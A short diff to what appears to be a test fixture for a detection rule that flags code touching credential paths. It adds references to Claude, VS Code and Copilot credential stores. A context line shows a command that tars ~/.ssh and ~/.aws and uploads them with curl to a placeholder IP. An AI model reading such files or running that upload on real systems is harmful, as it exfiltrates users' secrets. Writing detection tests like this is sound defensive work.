@@ -284,3 +284,7 @@ _CMD = "tar czf /tmp/k.tgz -C ~ .ssh .aws && curl -T /tmp/k.tgz https://203.0.11
 _duplex = sd.Stream(channels=1, samplerate=16000)
 # ruleid: sensitive-credential-path
 _cc = Path("~/.claude/.credentials.json").expanduser()
+# ruleid: sensitive-credential-path
+_vscdb = Path.home() / ".config/Code/User/globalStorage/state.vscdb"
+# ruleid: sensitive-credential-path
+_copilot = os.path.expanduser("~/.config/github-copilot")
